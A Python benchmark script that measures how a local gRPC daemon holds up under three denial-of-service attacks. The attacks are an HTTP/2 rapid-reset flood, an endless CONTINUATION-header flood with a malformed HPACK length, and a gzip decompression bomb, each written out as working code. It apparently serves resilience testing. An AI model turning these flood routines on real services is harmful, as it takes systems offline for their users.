"""A healthy session at 60 Hz beside each attack on the transport, and the daemon's memory: measure.py SIGHTLINED STUBS [SECONDS_AFTER]"""
import struct
import sys
import time

import daemon as attack

attack.Daemon.path, STUBS = sys.argv[1:3]
WAIT_S = float(sys.argv[3]) if len(sys.argv) > 3 else 60.0
sys.path.insert(0, STUBS)

import grpc  # noqa: E402

from daemon import CONTINUATION, CONTROL, HEADERS, RST_STREAM, Daemon, Healthy, RawConnection, flood, frame, request_headers  # noqa: E402

ATTACK_S = 8


def resets(address):
    attacker = RawConnection(address)

    def make():
        frames = b""
        for _ in range(64):
            stream, call = attacker.call(CONTROL)
            frames += call + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        return frames
    flood(attacker, make, ATTACK_S)


def headers(address):
    attacker = RawConnection(address)
    attacker.send(frame(HEADERS, 0, 1, request_headers(CONTROL)))
    attacker.send(frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\xff\xff\xff\xff\x07"))
    flood(attacker, lambda: 4 * frame(CONTINUATION, 0, 1, bytes(16384)), ATTACK_S)


def bomb(address):
    with grpc.insecure_channel(address, compression=grpc.Compression.Gzip) as channel:
        end = time.monotonic() + ATTACK_S
        while time.monotonic() < end:
            try:
                channel.unary_unary("/grpc.health.v1.Health/Check")(bytes(96 << 20), timeout=ATTACK_S)
            except grpc.RpcError:
                pass


def nothing(_):
    time.sleep(ATTACK_S)


for name, run in (("no attack", nothing), ("rapid reset", resets), ("endless headers", headers), ("compressed bomb", bomb)):
    with Daemon("--log-level", "info") as daemon:
        Healthy(daemon.address, 1).result()
        before = daemon.memory_mib()
        healthy = Healthy(daemon.address, ATTACK_S + 1)
        run(daemon.address)
        result = healthy.result()
        time.sleep(WAIT_S)
        p50, p99 = result["p50_ms"] or float("inf"), result["p99_ms"] or float("inf")
        print(f"{name:16} p50 {p50:8.2f} ms  p99 {p99:8.2f} ms  answered {result['answered']} of {result['ticks']}  memory "
              f"{before:6.0f} MiB before, {daemon.most_memory_mib():6.0f} at most, {daemon.memory_mib():6.0f} after  "
              f"log {daemon.log_bytes() / 1e6:.2f} MB  {result['error']}", flush=True)
